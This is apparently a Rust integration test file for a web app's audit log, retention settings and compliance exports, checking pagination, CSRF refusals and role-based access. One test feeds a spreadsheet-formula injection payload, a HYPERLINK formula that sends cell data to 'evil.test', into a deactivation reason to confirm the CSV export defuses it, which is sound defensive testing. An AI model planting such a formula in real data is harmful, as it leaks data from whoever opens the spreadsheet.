//! The audit log, retention and compliance exports over HTTP: the JSON API's pages
//! and downloads, the console's Audit log and Data tabs, and the refusals.

use crate::support::{Server, error_of, form_value, page, submit};
use hearth_app::domain::Role;
use hearth_testkit::{TestDb, both_backends};
use serde_json::{Value, json};

both_backends!(
    the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only,
    retention_over_the_api_refuses_bad_values_and_changes_nothing,
    compliance_exports_download_as_zips_of_json_lines,
    exports_refuse_get_and_cookie_posts_without_the_csrf_header_and_record_nothing,
    audit_csv_cells_that_start_like_a_formula_come_out_as_text,
    the_console_shows_the_log_and_the_data_tab_and_refuses_members,
);

fn api(server: &Server, path: &str) -> String {
    server.url(&format!("/api/hearth/v1{path}"))
}

fn content_type(response: &reqwest::Response) -> String {
    response
        .headers()
        .get("content-type")
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned()
}

async fn the_audit_log_pages_and_downloads_as_csv_and_json_lines_for_admins_only(db: TestDb) {
    let server = Server::start(db).await;
    server.user("admin@acme.test", Role::Admin).await;
    server.user("ana@acme.test", Role::Member).await;
    let admin = server.signed_in("admin@acme.test").await;
    let csrf = admin.csrf.clone();
    for days in [30, 60, 90] {
        let set = admin
            .client
            .put(api(&server, "/retention"))
            .header("x-csrf-token", &csrf)
            .json(&json!({ "retention_days": days }))
            .send()
            .await
            .unwrap();
        assert_eq!(set.status(), 200);
    }

    let first: Value = admin
        .get("/audit?action=retention.set&limit=2")
        .await
        .json()
        .await
        .unwrap();
    let entries = first["entries"].as_array().unwrap();
    assert_eq!(entries.len(), 2);
    assert_eq!(entries[0]["details"]["days"], 90, "newest first");
    assert_eq!(entries[0]["actor_kind"], "user");
    assert!(!entries[0]["address"].as_str().unwrap().is_empty());
    let before = first["next_before"].as_str().unwrap();
    let second: Value = admin
        .client
        .get(api(
            &server,
            &format!("/audit?action=retention.set&limit=2&before={before}"),
        ))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(second["entries"].as_array().unwrap().len(), 1);
    assert_eq!(second["entries"][0]["details"]["days"], 30);
    assert!(second["next_before"].is_null());

    let csv_download = admin
        .post("/audit/export?format=csv&action=retention.set")
        .await;
    assert_eq!(csv_download.status(), 200);
    assert!(content_type(&csv_download).starts_with("text/csv"));
    let body = csv_download.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_ref());
    assert_eq!(&reader.headers().unwrap()[5], "action");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|row| &row[5] == "retention.set"));

    let lines_download = admin.post("/audit/export?format=jsonl").await;
    assert_eq!(lines_download.status(), 200);
    assert!(content_type(&lines_download).starts_with("application/jsonl"));
    let text = lines_download.text().await.unwrap();
    let lines: Vec<Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(
        lines[0]["action"], "audit.exported",
        "the download was recorded first"
    );
    assert!(
        lines
            .iter()
            .filter(|l| l["action"] == "retention.set")
            .count()
            == 3
    );

    for bad in [
        "/audit?action=user.teleported",
        "/audit?from=yesterday",
        "/audit?limit=0",
    ] {
        let (status, code, _, _) = error_of(admin.get(bad).await).await;
        assert_eq!((status, code.as_str()), (422, "invalid_input"), "{bad}");
    }
    let (status, code, _, _) = error_of(admin.post("/audit/export?format=xml").await).await;
    assert_eq!((status, code.as_str()), (422, "invalid_input"));

    let member = server.signed_in("ana@acme.test").await;
    let (status, _, _, _) = error_of(member.get("/audit").await).await;
    assert_eq!(status, 403);
    let (status, _, _, _) = error_of(member.post("/audit/export?format=csv").await).await;
    assert_eq!(status, 403);
    let exported: Value = admin
        .get("/audit?action=audit.exported")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        exported["entries"].as_array().unwrap().len(),
        2,
        "two downloads, refusals and bad requests not counted"
    );
    server.stop().await;
}

async fn retention_over_the_api_refuses_bad_values_and_changes_nothing(db: TestDb) {
    let server = Server::start(db).await;
    server.user("admin@acme.test", Role::Admin).await;
    server.user("cora@acme.test", Role::Compliance).await;
    let admin = server.signed_in("admin@acme.test").await;
    let csrf = admin.csrf.clone();
    let put = |body: Value| {
        admin
            .client
            .put(api(&server, "/retention"))
            .header("x-csrf-token", &csrf)
            .json(&body)
            .send()
    };
    let set: Value = put(json!({ "retention_days": 45 }))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(set["retention_days"], 45);

    for bad in [0, -3, 36_501] {
        let (status, code, _, _) =
            error_of(put(json!({ "retention_days": bad })).await.unwrap()).await;
        assert_eq!((status, code.as_str()), (422, "invalid_input"), "{bad}");
    }
    let (status, _, _, _) =
        error_of(put(json!({ "retention_days": "forever" })).await.unwrap()).await;
    assert_eq!(status, 422);
    let (status, _, _, _) = error_of(admin.get("/retention/dry-run?days=0").await).await;
    assert_eq!(status, 422);

    let officer = server.signed_in("cora@acme.test").await;
    let officer_csrf = officer.csrf.clone();
    let refused = officer
        .client
        .put(api(&server, "/retention"))
        .header("x-csrf-token", &officer_csrf)
        .json(&json!({ "retention_days": 1 }))
        .send()
        .await
        .unwrap();
    assert_eq!(error_of(refused).await.0, 403);
    let refused = officer
        .client
        .post(api(&server, "/retention/apply"))
        .header("x-csrf-token", &officer_csrf)
        .send()
        .await
        .unwrap();
    assert_eq!(error_of(refused).await.0, 403);

    let now: Value = officer.get("/retention").await.json().await.unwrap();
    assert_eq!(now["retention_days"], 45, "nothing changed");
    let dry: Value = officer
        .get("/retention/dry-run")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(dry["days"], 45);
    assert_eq!(dry["posts"], 0);

    let applied = admin
        .client
        .post(api(&server, "/retention/apply"))
        .header("x-csrf-token", &csrf)
        .send()
        .await
        .unwrap();
    assert_eq!(applied.status(), 200);
    let applied: Value = applied.json().await.unwrap();
    assert_eq!(applied["messages"], 0);
    let log: Value = admin
        .get("/audit?action=retention.set")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        log["entries"].as_array().unwrap().len(),
        1,
        "only the good value"
    );
    server.stop().await;
}

async fn compliance_exports_download_as_zips_of_json_lines(db: TestDb) {
    let server = Server::start(db).await;
    server.user("admin@acme.test", Role::Admin).await;
    server.user("cora@acme.test", Role::Compliance).await;
    let ana = server.user("ana@acme.test", Role::Member).await;
    let member = server.signed_in("ana@acme.test").await;
    let member_csrf = member.csrf.clone();
    let posted = member
        .client
        .post(api(&server, "/posts"))
        .header("x-csrf-token", &member_csrf)
        .json(&json!({ "body": "For the record" }))
        .send()
        .await
        .unwrap();
    assert_eq!(posted.status(), 201);

    let officer = server.signed_in("cora@acme.test").await;
    let network = officer.post("/exports/network").await;
    assert_eq!(network.status(), 200);
    assert_eq!(content_type(&network), "application/zip");
    let disposition = network.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(disposition.contains(".zip"), "{disposition}");
    let files = hearth_testkit::unzip_json_lines(&network.bytes().await.unwrap());
    for file in [
        "users.jsonl",
        "posts.jsonl",
        "messages.jsonl",
        "audit.jsonl",
    ] {
        assert!(files.contains_key(file), "{file}");
    }
    assert_eq!(files["users.jsonl"].len(), 3);
    assert_eq!(files["posts.jsonl"][0]["body_markdown"], "For the record");

    let person = officer.post(&format!("/exports/users/{}", ana.id)).await;
    assert_eq!(person.status(), 200);
    let files = hearth_testkit::unzip_json_lines(&person.bytes().await.unwrap());
    assert_eq!(files["users.jsonl"].len(), 1);
    assert_eq!(files["users.jsonl"][0]["email"], "ana@acme.test");
    assert_eq!(files["posts.jsonl"].len(), 1);

    let (status, code, message, _) = error_of(officer.post("/exports/users/424242").await).await;
    assert_eq!((status, code.as_str()), (404, "not_found"));
    assert!(message.contains("user"), "{message}");
    let (status, _, _, _) = error_of(officer.post("/exports/users/ana").await).await;
    assert_eq!(status, 400);
    for path in [
        "/exports/network".to_owned(),
        format!("/exports/users/{}", ana.id),
    ] {
        let (status, _, _, _) = error_of(member.post(&path).await).await;
        assert_eq!(status, 403, "{path}");
    }

    let log: Value = officer.get("/audit").await.json().await.unwrap();
    let actions: Vec<&str> = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions.iter().filter(|a| **a == "network.exported").count(),
        1
    );
    assert_eq!(actions.iter().filter(|a| **a == "user.exported").count(), 1);
    server.stop().await;
}

/// A top-level cross-site navigation is a `GET` carrying the session cookie; it must
/// neither run an export nor write to the audit log.
async fn exports_refuse_get_and_cookie_posts_without_the_csrf_header_and_record_nothing(
    db: TestDb,
) {
    let server = Server::start(db).await;
    server.user("cora@acme.test", Role::Admin).await;
    let ana = server.user("ana@acme.test", Role::Member).await;
    let admin = server.signed_in("cora@acme.test").await;
    let paths = [
        "/exports/network".to_owned(),
        format!("/exports/users/{}", ana.id),
        "/audit/export?format=csv".to_owned(),
    ];
    for path in &paths {
        let (status, code, _, _) = error_of(admin.get(path).await).await;
        assert_eq!(
            (status, code.as_str()),
            (405, "method_not_allowed"),
            "{path}"
        );
        let without_csrf = admin.client.post(api(&server, path)).send().await.unwrap();
        let (status, code, _, _) = error_of(without_csrf).await;
        assert_eq!((status, code.as_str()), (403, "csrf_failed"), "{path}");
    }
    let log: Value = admin.get("/audit").await.json().await.unwrap();
    let exported = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"].as_str().unwrap().ends_with(".exported"))
        .count();
    assert_eq!(exported, 0, "{log}");

    for path in &paths {
        assert_eq!(admin.post(path).await.status(), 200, "{path}");
    }
    let log: Value = admin.get("/audit").await.json().await.unwrap();
    let exported = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"].as_str().unwrap().ends_with(".exported"))
        .count();
    assert_eq!(exported, 3, "{log}");
    server.stop().await;
}

/// A reason anyone with a say in it could type must not run as a formula in the
/// spreadsheet of the admin who opens the export; the JSON lines keep it exactly.
async fn audit_csv_cells_that_start_like_a_formula_come_out_as_text(db: TestDb) {
    let server = Server::start(db).await;
    server.user("cora@acme.test", Role::Admin).await;
    let ana = server.user("ana@acme.test", Role::Member).await;
    let admin = server.signed_in("cora@acme.test").await;
    let reason = "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")";
    let deactivated = admin
        .post_json(
            &format!("/users/{}/deactivate", ana.id),
            &json!({ "reason": reason }),
        )
        .await;
    assert_eq!(deactivated.status(), 200);

    let csv_download = admin
        .post("/audit/export?format=csv&action=user.deactivated")
        .await;
    assert_eq!(csv_download.status(), 200);
    let body = csv_download.bytes().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_ref());
    assert_eq!(&reader.headers().unwrap()[9], "reason");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][9], format!("'{reason}"));
    assert!(
        rows[0]
            .iter()
            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{:?}",
        rows[0]
    );

    let lines = admin
        .post("/audit/export?format=jsonl&action=user.deactivated")
        .await
        .text()
        .await
        .unwrap();
    let entry: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    assert_eq!(entry["reason"], reason);
    server.stop().await;
}

async fn the_console_shows_the_log_and_the_data_tab_and_refuses_members(db: TestDb) {
    let server = Server::start(db).await;
    server.user("admin@acme.test", Role::Admin).await;
    server.user("ana@acme.test", Role::Member).await;
    let admin = server.signed_in("admin@acme.test").await;

    let (status, html) = page(&server, &admin.client, "/admin/data").await;
    assert_eq!(status, 200);
    assert!(html.contains("Retention is off"), "{html}");
    let csrf = form_value(&html, "csrf");

    let (status, _, html) = submit(
        &server,
        &admin.client,
        "/admin/data/retention",
        &[("csrf", &csrf), ("retention_days", "0")],
    )
    .await;
    assert_eq!(status, 422);
    assert!(html.contains("between 1 and 36500"), "{html}");
    let (_, html) = page(&server, &admin.client, "/admin/data").await;
    assert!(html.contains("Retention is off"), "nothing changed");

    let (status, location, _) = submit(
        &server,
        &admin.client,
        "/admin/data/retention",
        &[("csrf", &csrf), ("retention_days", "30")],
    )
    .await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/admin/data?saved=retention")
    );
    let (status, html) = page(&server, &admin.client, "/admin/data?dry_run=").await;
    assert_eq!(status, 200);
    assert!(html.contains("With 30 days, 0 posts and replies"), "{html}");

    let zip = admin
        .client
        .post(server.url("/admin/data/export/network"))
        .form(&[("csrf", csrf.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(zip.status(), 200);
    assert_eq!(content_type(&zip), "application/zip");
    assert!(
        hearth_testkit::unzip_json_lines(&zip.bytes().await.unwrap()).contains_key("users.jsonl")
    );
    let (status, _, html) = submit(
        &server,
        &admin.client,
        "/admin/data/export/user",
        &[("csrf", &csrf), ("user", "nobody@acme.test")],
    )
    .await;
    assert_eq!(status, 404);
    assert!(html.contains("no such user"), "{html}");

    let (status, html) = page(&server, &admin.client, "/admin/audit?action=retention.set").await;
    assert_eq!(status, 200);
    assert!(html.contains("retention.set"), "{html}");
    let csv = admin
        .client
        .post(server.url("/admin/audit/export"))
        .form(&[
            ("csrf", csrf.as_str()),
            ("format", "csv"),
            ("action", "network.exported"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(csv.status(), 200);
    assert!(content_type(&csv).starts_with("text/csv"));
    let body = csv.bytes().await.unwrap();
    let rows = csv::Reader::from_reader(body.as_ref()).records().count();
    assert_eq!(rows, 1, "the one network export");

    let member = server.signed_in("ana@acme.test").await;
    for path in ["/admin/audit", "/admin/data"] {
        let (status, _) = page(&server, &member.client, path).await;
        assert_eq!(status, 403, "{path}");
    }
    server.stop().await;
}
